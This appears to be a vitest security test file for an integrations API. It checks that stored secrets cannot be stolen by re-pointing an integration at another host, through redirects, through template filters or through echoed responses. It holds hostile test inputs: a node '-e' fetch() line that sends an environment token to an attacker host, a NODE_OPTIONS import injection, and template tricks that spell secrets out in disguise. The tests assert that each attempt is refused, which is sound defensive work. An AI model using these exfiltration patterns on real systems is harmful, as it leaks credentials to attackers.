import { fileURLToPath } from 'node:url';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IntegrationInfo, TestIntegrationResult } from '../src/modules/adaptors/contract.js';
import { type FakeServer, sendJson, startFakeServer } from './fakes/crm.js';
import { TEST_DATABASE_URL } from './support/env.js';
import { client } from './support/http.js';
import { INTEGRATION_TEST_ENV } from './support/integration-env.js';
import { startApp, type TestApp } from './support/start-app.js';
import { createTenant } from './support/tenants.js';

/**
 * Issue 14: someone who may edit integrations, but never read their secrets, must not be able to
 * get them: not by re-pointing the integration at their own host, not through a template.
 */
const STDIO_SERVER = fileURLToPath(new URL('./fakes/mcp-stdio-server.js', import.meta.url));
const SECRET = 'sk-live-exfiltrate-me-0042';
type ErrorBody = { error: { code: string; message: string; details?: { issues: { path: string; message: string }[] } } };

let server: TestApp;
let home: FakeServer;
let attacker: FakeServer;
const echo = () =>
  startFakeServer((r, res) => {
    if (r.path === '/redirect') return void res.writeHead(Number(r.query.status ?? 302), { location: r.query.to ?? '/' }).end();
    // Some services reflect request headers (debug endpoints, error pages): the worst case for a mapping.
    if (r.path === '/echo-auth') return sendJson(res, r.query.status ? Number(r.query.status) : 200, { padding: r.query.pad ?? '', authorization: r.headers.authorization ?? null });
    sendJson(res, 200, { body: r.body, query: r.query, leak: r.headers['x-leak'] ?? null });
  });
beforeAll(async () => {
  [home, attacker] = await Promise.all([echo(), echo()]);
  server = await startApp({ env: { ...INTEGRATION_TEST_ENV, MCP_STDIO_COMMANDS: 'node' } });
});
afterAll(async () => {
  await server.stop();
  await Promise.all([home.close(), attacker.close()]);
});

async function workspace() {
  const api = client(server.url, (await createTenant(server.app)).apiKey);
  const create = async (body: object) => {
    const created = await api.post<IntegrationInfo>('/v1/integrations', { name: 'crm', ...body });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    return created.body.id;
  };
  const update = (id: string, body: object) => api.call<ErrorBody>('PUT', `/v1/integrations/${id}`, body);
  const call = async (id: string, operation: string) => (await api.post<TestIntegrationResult>(`/v1/integrations/${id}/test`, { operation })).body;
  return { api, create, update, call };
}

const httpConfig = (baseUrl: string, extra: object = {}) => ({ baseUrl, auth: { type: 'bearer' }, operations: { ping: { path: '/ping' } }, ...extra });
const received = (fake: FakeServer) => JSON.stringify(fake.requests);

describe('moving an integration elsewhere takes its secrets again', () => {
  it('refuses a new base URL host or port without the secrets, so the new host never receives them', async () => {
    const ws = await workspace();
    const id = await ws.create({ kind: 'http', config: httpConfig(home.url), secrets: { token: SECRET } });

    const moved = await ws.update(id, { config: httpConfig(attacker.url) });
    expect(moved.status).toBe(400);
    expect(moved.body.error.code).toBe('bad_request');
    expect(moved.body.error.message).toMatch(/enter the secrets again \(token\).*config\.baseUrl/i);
    expect(moved.body.error.details!.issues).toEqual([expect.objectContaining({ path: 'secrets.token' })]);
    const https = await ws.update(id, { config: httpConfig(home.url.replace('http:', 'https:')) });
    expect(https.status).toBe(400);

    expect(await ws.call(id, 'ping')).toMatchObject({ ok: true });
    expect(received(attacker)).not.toContain(SECRET);
    expect(home.requests.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  it('lets the same host keep its secrets, and a new host have secrets entered for it', async () => {
    const ws = await workspace();
    const id = await ws.create({ kind: 'http', config: httpConfig(home.url), secrets: { token: SECRET } });
    expect((await ws.update(id, { config: httpConfig(`${home.url}/v2`) })).status).toBe(200);
    expect((await ws.update(id, { config: httpConfig(attacker.url), secrets: { token: 'their-own-token-1' } })).status).toBe(200);
    expect(await ws.call(id, 'ping')).toMatchObject({ ok: true });
    expect(attacker.requests.at(-1)!.headers.authorization).toBe('Bearer their-own-token-1');
    expect(received(attacker)).not.toContain(SECRET);
  });

  it('treats a new OAuth token endpoint as a new destination for the client secret', async () => {
    const ws = await workspace();
    const auth = (tokenUrl: string) => ({ type: 'oauth2_client_credentials', tokenUrl, clientId: 'engine' });
    const id = await ws.create({ kind: 'http', config: httpConfig(home.url, { auth: auth(`${home.url}/oauth/token`) }), secrets: { clientSecret: SECRET } });
    const moved = await ws.update(id, { config: httpConfig(home.url, { auth: auth(`${attacker.url}/oauth/token`) }) });
    expect(moved.status).toBe(400);
    expect(moved.body.error.message).toContain('config.auth.tokenUrl');
  });

  it('treats a new MCP server URL, command line or environment as a new destination', async () => {
    const ws = await workspace();
    const viaHttp = await ws.create({ kind: 'mcp', config: { transport: { type: 'http', url: `${home.url}/mcp` } }, secrets: { token: SECRET } });
    const movedUrl = await ws.update(viaHttp, { config: { transport: { type: 'http', url: `${attacker.url}/mcp` } } });
    expect(movedUrl.status).toBe(400);
    expect(movedUrl.body.error.message).toContain('config.transport.url');

    const stdio = (args: string[], env?: Record<string, string>) => ({ transport: { type: 'stdio', command: 'node', args, ...(env ? { env } : {}) } });
    const local = (await ws.api.post<IntegrationInfo>('/v1/integrations', { name: 'local', kind: 'mcp', config: stdio([STDIO_SERVER]), secrets: { FAKE_TOKEN: SECRET } })).body.id;
    const leak = `fetch('${attacker.url}/?t=' + process.env.FAKE_TOKEN)`;
    expect((await ws.update(local, { config: stdio(['-e', leak]) })).status).toBe(400);
    expect((await ws.update(local, { config: stdio([STDIO_SERVER], { NODE_OPTIONS: '--import=/tmp/x.mjs' }) })).status).toBe(400);
    expect((await ws.update(local, { config: stdio([STDIO_SERVER]), description: 'unchanged target' })).status).toBe(200);
  });
});

describe('redirects', () => {
  it('drop an API key header when they leave the origin, as they drop Authorization', async () => {
    const ws = await workspace();
    const operations = { hop: { path: `/redirect?to=${encodeURIComponent(`${attacker.url}/landed`)}` } };
    const config = httpConfig(home.url, { auth: { type: 'api_key', in: 'header', name: 'X-Api-Key' }, operations });
    const id = await ws.create({ kind: 'http', config, secrets: { apiKey: SECRET } });
    expect(await ws.call(id, 'hop')).toMatchObject({ ok: true });
    expect(home.calls('/redirect').at(-1)!.headers['x-api-key']).toBe(SECRET);
    expect(attacker.calls('/landed')).toHaveLength(1);
    expect(received(attacker)).not.toContain(SECRET);
  });

  it('are not followed to another origin when they would send the body again (307/308), since bodies carry credentials too', async () => {
    const ws = await workspace();
    const tokenUrl = `${home.url}/redirect?status=307&to=${encodeURIComponent(`${attacker.url}/token`)}`;
    const config = httpConfig(home.url, { auth: { type: 'oauth2_client_credentials', tokenUrl, clientId: 'engine' } });
    const id = await ws.create({ kind: 'http', config, secrets: { clientSecret: SECRET } });
    expect(await ws.call(id, 'ping')).toMatchObject({ ok: false, error: { message: expect.stringContaining('another origin') } });
    expect(received(attacker)).not.toContain(SECRET);
  });
});

describe('templates never see secrets', () => {
  it('renders secrets.* as nothing in bodies, headers and queries; auth still adds the credential', async () => {
    const ws = await workspace();
    const disguised = '{{ secrets.token | split: "" | join: "-" }}';
    const operations = {
      leak: {
        method: 'POST',
        path: '/leak',
        query: { q: disguised },
        headers: { 'x-leak': disguised },
        body: { plain: '{{ secrets.token }}', disguised, whole: '{{ secrets }}' },
      },
    };
    const id = await ws.create({ kind: 'http', config: httpConfig(home.url, { operations }), secrets: { token: SECRET } });
    const result = await ws.call(id, 'leak');

    expect(result.ok).toBe(true);
    const request = home.calls('/leak').at(-1)!;
    const spelled = SECRET.split('').join('-');
    for (const seen of [JSON.stringify(result), JSON.stringify({ body: request.body, query: request.query, leak: request.headers['x-leak'] })]) {
      expect(seen).not.toContain(SECRET);
      expect(seen).not.toContain(spelled);
    }
    expect(request.body).toEqual({ plain: null, disguised: '', whole: null });
    expect(request.headers.authorization).toBe(`Bearer ${SECRET}`);
  });
});

describe('responses that echo a secret', () => {
  it('are redacted before output mappings and error hints see them, so no filter can disguise the secret', async () => {
    const ws = await workspace();
    const spell = 'body.authorization | split: "" | join: "-"';
    const operations = {
      mirror: { path: '/echo-auth', output: { spelled: spell, reversed: 'body.authorization | split: "" | reverse | join: ""' } },
      failing: { path: '/echo-auth', query: { status: '{{ input.status }}' }, error: spell },
      // A 4xx hint is cut at 300 characters: padding could cut the secret in half, out of the redactor's sight.
      cut: { path: '/echo-auth', query: { status: '400', pad: '{{ input.pad }}' } },
    };
    const id = await ws.create({ kind: 'http', config: httpConfig(home.url, { operations }), secrets: { token: SECRET } });
    const results = [
      await ws.call(id, 'mirror'),
      (await ws.api.post<TestIntegrationResult>(`/v1/integrations/${id}/test`, { operation: 'failing', input: { status: 200 } })).body,
      (await ws.api.post<TestIntegrationResult>(`/v1/integrations/${id}/test`, { operation: 'cut', input: { pad: 'x'.repeat(252) } })).body,
    ];
    expect(results.map((r) => r.ok)).toEqual([true, false, false]);
    const seen = JSON.stringify(results);
    for (const disguise of [SECRET.split('').join('-'), [...SECRET].reverse().join(''), SECRET.slice(0, 10)]) expect(seen).not.toContain(disguise);
  });
});

describe('credentials in URLs', () => {
  it.each([
    ['the base URL', (url: string) => ({ kind: 'http', config: httpConfig(url), secrets: { token: 'token-1' } }), 'config.baseUrl'],
    ['the OAuth token URL', (url: string) => ({ kind: 'http', config: httpConfig('https://api.example.com', { auth: { type: 'oauth2_client_credentials', tokenUrl: url, clientId: 'x' } }), secrets: { clientSecret: 'secret-1' } }), 'config.auth.tokenUrl'],
    ['an MCP server URL', (url: string) => ({ kind: 'mcp', config: { transport: { type: 'http', url } } }), 'config.transport.url'],
  ])('refuses them in %s, pointing at the auth settings, and stores nothing', async (_label, body, path) => {
    const ws = await workspace();
    const withCredentials = home.url.replace('http://', 'http://admin:hunter2-password@');
    const refused = await ws.api.post<ErrorBody>('/v1/integrations', { name: 'crm', ...body(withCredentials) });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toMatch(/user name or password.*auth settings/);
    expect(refused.body.error.details!.issues).toEqual([expect.objectContaining({ path })]);
    expect((await ws.api.get<{ integrations: unknown[] }>('/v1/integrations')).body.integrations).toEqual([]);
  });

  it('refuses them on update too, and keeps the stored URL', async () => {
    const ws = await workspace();
    const id = await ws.create({ kind: 'http', config: httpConfig(home.url), secrets: { token: SECRET } });
    const refused = await ws.update(id, { config: httpConfig(home.url.replace('http://', 'http://admin:pw@')), secrets: { token: SECRET } });
    expect(refused.status).toBe(400);
    const stored = await ws.api.get<IntegrationInfo>(`/v1/integrations/${id}`);
    expect(JSON.stringify(stored.body)).not.toContain('admin:pw');
  });

  it('are hidden when an integration saved before this rule still holds them', async () => {
    const ws = await workspace();
    const id = await ws.create({ kind: 'http', config: httpConfig(home.url), secrets: { token: SECRET } });
    const legacy = httpConfig(home.url.replace('http://', 'http://admin:p@ss-hunter2@'));
    const db = new pg.Client({ connectionString: TEST_DATABASE_URL });
    await db.connect();
    await db.query('UPDATE integrations SET config = $2 WHERE id = $1', [id, JSON.stringify(legacy)]).finally(() => db.end());
    const shown = JSON.stringify([(await ws.api.get(`/v1/integrations/${id}`)).body, (await ws.api.get('/v1/integrations')).body]);
    expect(shown).not.toContain('hunter2');
    expect(shown).toContain(`http://[redacted]@${new URL(home.url).host}`);
  });
});
